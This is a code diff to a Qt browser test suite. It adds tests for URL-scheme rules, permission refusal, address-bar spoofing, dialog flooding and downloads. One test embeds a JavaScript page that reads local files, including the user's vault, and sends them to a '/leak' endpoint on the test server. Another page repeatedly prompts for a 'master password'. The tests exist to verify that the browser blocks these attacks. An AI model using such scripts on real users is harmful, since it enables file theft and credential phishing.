@@ -1,7 +1,9 @@
 // The built-in browser: layout arithmetic, start addresses, navigation, and shutdown with it open.
 #include "core/browser/BrowserLayout.h"
+#include "core/browser/PageRules.h"
 #include "core/platform/Twips.h"
 #include "support/TestProgram.h"
+#include "support/TestWebServer.h"
 #include "windows/browser/FrmWebsite.h"
 #include "windows/browser/StatusPanel.h"
 #include "windows/main/Form1.h"
@@ -16,8 +18,10 @@
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTimer>
+#include <QWebEngineDownloadRequest>
 #include <QWebEngineHistory>
 #include <QWebEnginePage>
+#include <QWebEngineProfile>
 #include <QWebEngineView>
 
 Q_DECLARE_METATYPE(BrowserLayout)
@@ -56,6 +60,16 @@ bool waitLoaded(FrmWebsite* browser)
     QSignalSpy finished(browser->webBrowser(), &QWebEngineView::loadFinished);
     return finished.wait(20000);
 }
+
+// Clicks the page where the tests' pages put their one button.
+void clickPage(FrmWebsite* browser)
+{
+    QWidget* content = browser->webBrowser()->focusProxy();
+    QVERIFY(content);
+    QTest::mouseClick(content, Qt::LeftButton, {}, QPoint(50, 50));
+}
+
+constexpr const char* kButtonStyle = "style=\"display:block;position:absolute;left:0;top:0;width:300px;height:200px\"";
 
 QString text1(FrmWebsite* browser)
 {
@@ -96,6 +110,13 @@ private slots:
     void failedLoadGivesItsReason();
     void newWindowRequestsOpenHere_data();
     void newWindowRequestsOpenHere();
+    void pageRules_data();
+    void pageRules();
+    void pagesReachNoFileAndLeadOnlyWhereAllowed_data();
+    void pagesReachNoFileAndLeadOnlyWhereAllowed();
+    void permissionRequestsAreRefused();
+    void addressBoxShowsTheLoadingPage();
+    void pageDialogsNameTheirOriginAndStopAfterThree();
     void downloadsAskWhereAndReport();
     void pageDialogsBlockOnlyTheBrowser_data();
     void pageDialogsBlockOnlyTheBrowser();
@@ -162,11 +183,14 @@ void TestBrowser::startAddressesAndBringToFront()
     browser->findChild<QLineEdit*>(QStringLiteral("Text1"))->setText(QStringLiteral("typed"));
     QCOMPARE(openBrowser(p), browser);
     QCOMPARE(text1(browser), QStringLiteral("typed"));
-    // Closed and opened again: the company website.
+    // Closed and opened again: the company website; the browser leaves the skin switch alone.
     browser->close();
     QCOMPARE(p.fake.programEnd.ends, 0);
+    p.ctx->skinningEnabled = false;
     FrmWebsite* again = openBrowser(p);
     QVERIFY(again != browser);
+    QVERIFY(!p.ctx->skinningEnabled);
+    QCOMPARE(again->skinLabel1().size(), size_t(1));
     QCOMPARE(again->lastNavigation(), p.ctx->identity.companyWebsite);
     QVERIFY(waitLoaded(again));
     QCOMPARE(again->windowTitle(), QStringLiteral("Site"));
@@ -277,24 +301,235 @@ void TestBrowser::newWindowRequestsOpenHere()
     TestProgram p;
     startWithPages(p);
     writePage(p, QStringLiteral("other.html"), QStringLiteral("Other"));
-    const QString opening =
-        writePage(p, QStringLiteral("opening.html"), QStringLiteral("Opening"),
-                  opener.arg(QStringLiteral("style=\"display:block;position:absolute;left:0;top:0;width:300px;"
-                                            "height:200px\"")));
+    const QString opening = writePage(p, QStringLiteral("opening.html"), QStringLiteral("Opening"),
+                                      opener.arg(QLatin1String(kButtonStyle)));
     FrmWebsite* browser = openBrowser(p);
     QVERIFY(waitLoaded(browser));
     browser->Navigate(opening);
     QVERIFY(waitLoaded(browser));
     QCOMPARE(browser->windowTitle(), QStringLiteral("Opening"));
-    // A person's click on it.
-    QWidget* content = browser->webBrowser()->focusProxy();
-    QVERIFY(content);
-    QTest::mouseClick(content, Qt::LeftButton, {}, QPoint(50, 50));
+    clickPage(browser); // a person's click on it
     QTRY_COMPARE_WITH_TIMEOUT(browser->windowTitle(), QStringLiteral("Other"), 20000);
     const QWidgetList windows = QApplication::topLevelWidgets();
     QCOMPARE(std::count_if(windows.begin(), windows.end(),
                            [](const QWidget* w) { return w->isVisible() && qobject_cast<const FrmWebsite*>(w); }),
              1);
+}
+
+void TestBrowser::pageRules_data()
+{
+    QTest::addColumn<QString>("from");
+    QTest::addColumn<QString>("to");
+    QTest::addColumn<bool>("leads");
+    QTest::addColumn<bool>("fetches");
+    const QString web = QStringLiteral("http://127.0.0.1:8765/a.html");
+    const QString local = QStringLiteral("file:///home/u/invoice.html");
+    QTest::newRow("web to web") << web << "https://example.org/" << true << true;
+    QTest::newRow("web to local") << web << "file:///home/u/data.enc" << false << false;
+    QTest::newRow("web to data") << web << "data:text/html,x" << false << true;
+    QTest::newRow("web to qrc") << web << "qrc:/images/website.png" << false << true;
+    QTest::newRow("web to javascript") << web << "javascript:alert(1)" << false << true;
+    QTest::newRow("web to web without host") << web << "http:///x" << false << true;
+    QTest::newRow("local to local") << local << "file:///home/u/other.html" << true << true;
+    QTest::newRow("local to web") << local << "http://127.0.0.1:8765/?d=x" << false << false;
+    QTest::newRow("local to secure web") << local << "https://example.org/" << false << false;
+    QTest::newRow("local to web socket") << local << "ws://127.0.0.1:8765/" << false << false;
+    QTest::newRow("local to data") << local << "data:text/html,x" << false << true;
+    QTest::newRow("local to qrc") << local << "qrc:/images/website.png" << false << false;
+}
+
+void TestBrowser::pageRules()
+{
+    QFETCH(QString, from);
+    QFETCH(QString, to);
+    QFETCH(bool, leads);
+    QFETCH(bool, fetches);
+    QCOMPARE(pagerules::mayLeadTo(QUrl(from), QUrl(to)), leads);
+    QCOMPARE(pagerules::mayFetch(QUrl(from), QUrl(to)), fetches);
+}
+
+void TestBrowser::pagesReachNoFileAndLeadOnlyWhereAllowed_data()
+{
+    QTest::addColumn<bool>("localOpener");
+    QTest::addColumn<QString>("target"); // "web", "local" or an address
+    QTest::addColumn<bool>("onTimer");   // opened by a script on a timer instead of a click
+    QTest::addColumn<bool>("opens");
+    const QString data = QStringLiteral("data:text/html,<title>Target</title>");
+    const QString qrc = QStringLiteral("qrc:/images/website.png");
+    const QString script = QStringLiteral("javascript:document.title=\"Target\"");
+    QTest::newRow("local page, web window") << true << "web" << false << false;
+    QTest::newRow("local page, local window") << true << "local" << false << true;
+    QTest::newRow("local page, data: window") << true << data << false << false;
+    QTest::newRow("local page, qrc: window") << true << qrc << false << false;
+    QTest::newRow("local page, javascript: window") << true << script << false << false;
+    QTest::newRow("local page, local windows on a timer") << true << "local" << true << false;
+    QTest::newRow("web page, web window") << false << "web" << false << true;
+    QTest::newRow("web page, local window") << false << "local" << false << false;
+    QTest::newRow("web page, data: window") << false << data << false << false;
+    QTest::newRow("web page, qrc: window") << false << qrc << false << false;
+    QTest::newRow("web page, web windows on a timer") << false << "web" << true << false;
+}
+
+void TestBrowser::pagesReachNoFileAndLeadOnlyWhereAllowed()
+{
+    QFETCH(bool, localOpener);
+    QFETCH(QString, target);
+    QFETCH(bool, onTimer);
+    QFETCH(bool, opens);
+    TestProgram p;
+    startWithPages(p);
+    TestWebServer server;
+    const QByteArray targetPage = "<html><head><title>Target</title></head><body>here</body></html>";
+    server.addPage(QStringLiteral("/target.html"), targetPage);
+    const QString localTarget = writePage(p, QStringLiteral("target.html"), QStringLiteral("Target"));
+    const QString secret = p.folder() + QStringLiteral("/secret.txt");
+    QFile secretFile(secret);
+    QVERIFY(secretFile.open(QIODevice::WriteOnly));
+    secretFile.write("S3CRET-MARKER");
+    secretFile.close();
+    if (target == QLatin1String("web"))
+        target = server.url(QStringLiteral("/target.html"));
+    else if (target == QLatin1String("local"))
+        target = QUrl::fromLocalFile(localTarget).toString();
+
+    // The page reads the user's files, sends what it read, and opens the target with it.
+    const QString body =
+        QStringLiteral("<button onclick=\"go()\" %1>open</button><script>"
+                       "var stolen = [];"
+                       "function tryRead(u) { try { var x = new XMLHttpRequest(); x.open('GET', u, false); x.send();"
+                       "  if (x.responseText) stolen.push(x.responseText); } catch (e) {} }"
+                       "tryRead('%2'); tryRead('%3');"
+                       "var payload = stolen.length ? 'READ:' + encodeURIComponent(stolen.join('|')) : 'unread';"
+                       "new Image().src = '%4?d=' + payload;"
+                       "fetch('%4', {method: 'POST', mode: 'no-cors', body: payload}).catch(function () {});"
+                       "function go() { window.open('%5' + ('%5'.indexOf('http') == 0 ? '?d=' + payload : '')); }"
+                       "if (%6) setInterval(go, 20);"
+                       "document.title = stolen.length ? 'Leaked' : 'Ready';"
+                       "</script>")
+            .arg(QLatin1String(kButtonStyle), QUrl::fromLocalFile(p.vaultPath()).toString(),
+                 QUrl::fromLocalFile(secret).toString(), server.url(QStringLiteral("/leak")), target,
+                 onTimer ? QStringLiteral("true") : QStringLiteral("false"));
+    QString opener;
+    if (localOpener) {
+        opener = writePage(p, QStringLiteral("opener.html"), QStringLiteral("Opening"), body);
+    } else {
+        server.addPage(
+            QStringLiteral("/opener.html"),
+            QStringLiteral("<html><head><title>Opening</title></head><body>%1</body></html>").arg(body).toUtf8());
+        opener = server.url(QStringLiteral("/opener.html"));
+    }
+
+    FrmWebsite* browser = openBrowser(p);
+    QVERIFY(waitLoaded(browser));
+    browser->Navigate(opener);
+    QTRY_VERIFY_WITH_TIMEOUT(
+        browser->windowTitle() == QLatin1String("Ready") || browser->windowTitle() == QLatin1String("Leaked"), 20000);
+    QCOMPARE(browser->windowTitle(), QStringLiteral("Ready")); // nothing was read
+    const QUrl openerUrl = browser->webBrowser()->url();
+    if (!onTimer)
+        clickPage(browser);
+    if (opens) {
+        QTRY_COMPARE_WITH_TIMEOUT(browser->windowTitle(), QStringLiteral("Target"), 20000);
+    } else {
+        QTest::qWait(1500);
+        QCOMPARE(browser->webBrowser()->url(), openerUrl);
+        QCOMPARE(browser->windowTitle(), QStringLiteral("Ready"));
+    }
+    // A web page could send (what it did not read); a local page reached no server at all.
+    QTRY_COMPARE_WITH_TIMEOUT(server.received("/leak?d=unread"), !localOpener, 5000);
+    QVERIFY(!server.received("READ:"));
+    QVERIFY(!server.received("S3CRET"));
+    if (localOpener)
+        QVERIFY(server.requests().isEmpty());
+    const QWidgetList windows = QApplication::topLevelWidgets();
+    QCOMPARE(std::count_if(windows.begin(), windows.end(),
+                           [](const QWidget* w) { return w->isVisible() && qobject_cast<const FrmWebsite*>(w); }),
+             1);
+}
+
+void TestBrowser::permissionRequestsAreRefused()
+{
+    TestProgram p;
+    startWithPages(p);
+    TestWebServer server;
+    server.addPage(QStringLiteral("/ask.html"),
+                   "<html><head><title>Asking</title></head><body><script>"
+                   "Notification.requestPermission().then(function (n) {"
+                   "  navigator.geolocation.getCurrentPosition(function () { document.title = n + ' located'; },"
+                   "    function (e) { document.title = n + ' ' + e.code; }); });"
+                   "</script></body></html>");
+    FrmWebsite* browser = openBrowser(p);
+    QVERIFY(waitLoaded(browser));
+    browser->Navigate(server.url(QStringLiteral("/ask.html")));
+    // Both answered at once, with no (1 is the refusal of a position).
+    QTRY_COMPARE_WITH_TIMEOUT(browser->webBrowser()->title(), QStringLiteral("denied 1"), 20000);
+}
+
+void TestBrowser::addressBoxShowsTheLoadingPage()
+{
+    TestProgram p;
+    startWithPages(p);
+    TestWebServer server;
+    server.addPage(QStringLiteral("/start.html"), "<html><head><title>Start</title></head><body>start</body></html>");
+    server.addStalledPage(QStringLiteral("/signin.html"), "<html><head><title>Sign in</title></head><body>Sign in");
+    server.addStalledPage(QStringLiteral("/other.html"), "<html><head><title>Other</title></head><body>Other");
+    FrmWebsite* browser = openBrowser(p);
+    QVERIFY(waitLoaded(browser));
+    browser->Navigate(server.url(QStringLiteral("/start.html")));
+    QVERIFY(waitLoaded(browser));
+    QCOMPARE(text1(browser), server.url(QStringLiteral("/start.html")));
+
+    QSignalSpy finished(browser->webBrowser(), &QWebEngineView::loadFinished);
+    browser->webBrowser()->page()->runJavaScript(QStringLiteral("location.href = '/signin.html';"));
+    QTRY_COMPARE_WITH_TIMEOUT(text1(browser), server.url(QStringLiteral("/signin.html")), 20000);
+    QCOMPARE(finished.count(), 0); // still loading
+
+    // What the user is typing stays while the page moves on.
+    auto* address = browser->findChild<QLineEdit*>(QStringLiteral("Text1"));
+    browser->activateWindow();
+    QVERIFY(QTest::qWaitForWindowActive(browser));
+    address->setFocus();
+    QTRY_VERIFY(address->hasFocus());
+    address->clear();
+    QTest::keyClicks(address, QStringLiteral("my bank"));
+    browser->webBrowser()->page()->runJavaScript(QStringLiteral("location.href = '/other.html';"));
+    QTRY_COMPARE_WITH_TIMEOUT(browser->webBrowser()->url().toString(), server.url(QStringLiteral("/other.html")),
+                              20000);
+    QTest::qWait(200);
+    QCOMPARE(text1(browser), QStringLiteral("my bank"));
+}
+
+void TestBrowser::pageDialogsNameTheirOriginAndStopAfterThree()
+{
+    TestProgram p;
+    startWithPages(p);
+    TestWebServer server;
+    server.addPage(QStringLiteral("/ask.html"), "<html><head><title>Keyhaven</title></head><body><script>"
+                                                "setTimeout(function () { for (var i = 0; i < 6; ++i)"
+                                                "  prompt('Type your master password again', '');"
+                                                "  document.title = 'done'; }, 0);"
+                                                "</script></body></html>");
+    QPointer<FrmWebsite> browser = openBrowser(p);
+    QVERIFY(waitLoaded(browser));
+    QStringList captions;
+    QTimer poll;
+    poll.setInterval(20);
+    connect(&poll, &QTimer::timeout, this, [&] {
+        if (browser && browser->pageDialog() && browser->pageDialog()->isVisible()) {
+            captions.append(browser->pageDialog()->windowTitle());
+            browser->pageDialog()->reject();
+        }
+    });
+    poll.start();
+    browser->Navigate(server.url(QStringLiteral("/ask.html")));
+    QTRY_COMPARE_WITH_TIMEOUT(browser->webBrowser()->title(), QStringLiteral("done"), 20000);
+    const QString origin = server.url(QString());
+    QCOMPARE(captions, QStringList(3, origin));
+    QCOMPARE(browser->findChild<StatusPanel*>(QStringLiteral("Panel1"))->text(),
+             QStringLiteral("Further dialogs of %1 are refused").arg(origin));
+    // Going somewhere lets the next page ask again.
+    browser->Navigate(server.url(QStringLiteral("/ask.html")));
+    QTRY_COMPARE_WITH_TIMEOUT(captions.size(), 4, 20000);
 }
 
 void TestBrowser::downloadsAskWhereAndReport()
@@ -310,17 +545,34 @@ void TestBrowser::downloadsAskWhereAndReport()
     f.close();
     QTemporaryDir saved;
     auto* panel1 = browser->findChild<StatusPanel*>(QStringLiteral("Panel1"));
-    // Cancelled where it asks.
+    // Cancelled where it asks; the same page does not get to ask again.
     browser->webBrowser()->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
     QTRY_COMPARE_WITH_TIMEOUT(panel1->text(), QStringLiteral("Download of report.bin cancelled"), 20000);
     QCOMPARE(p.fake.files.proposed.size(), 1);
     QVERIFY(p.fake.files.proposed.front().endsWith(QLatin1String("/report.bin")));
-    // Saved where the user said.
-    const QString target = saved.filePath(QStringLiteral("kept.bin"));
+    panel1->clear();
+    browser->webBrowser()->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
+    QTRY_COMPARE_WITH_TIMEOUT(panel1->text(), QStringLiteral("Download of report.bin cancelled"), 20000);
+    QCOMPARE(p.fake.files.proposed.size(), 1);
+    // Once the user reloads, it asks again; saved where the user said, under a name with "%1" in it.
+    QTest::mouseClick(browser->findChild<QPushButton*>(QStringLiteral("Command7")), Qt::LeftButton);
+    QVERIFY(waitLoaded(browser));
+    const QString target = saved.filePath(QStringLiteral("kept%1.bin"));
     p.fake.files.answers.push_back(target);
+    QStringList progress; // the panel as each piece arrives
+    connect(browser->webBrowser()->page()->profile(), &QWebEngineProfile::downloadRequested, this,
+            [&](QWebEngineDownloadRequest* request) {
+                connect(request, &QWebEngineDownloadRequest::receivedBytesChanged, this,
+                        [&] { progress.append(panel1->text()); });
+            });
     browser->webBrowser()->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
     QTRY_COMPARE_WITH_TIMEOUT(panel1->text(),
-                              QStringLiteral("Downloaded kept.bin to ") + QDir::toNativeSeparators(target), 20000);
+                              QStringLiteral("Downloaded kept%1.bin to ") + QDir::toNativeSeparators(target), 20000);
+    QCOMPARE(p.fake.files.proposed.size(), 2);
+    QVERIFY(!progress.isEmpty());
+    for (const QString& shown : progress)
+        QVERIFY2(shown.startsWith(QLatin1String("Downloading kept%1.bin")) && !shown.contains(QLatin1String("%2")),
+                 qPrintable(shown));
     QFile kept(target);
     QVERIFY(kept.open(QIODevice::ReadOnly));
     QCOMPARE(kept.readAll(), QByteArray(100'000, 'k'));
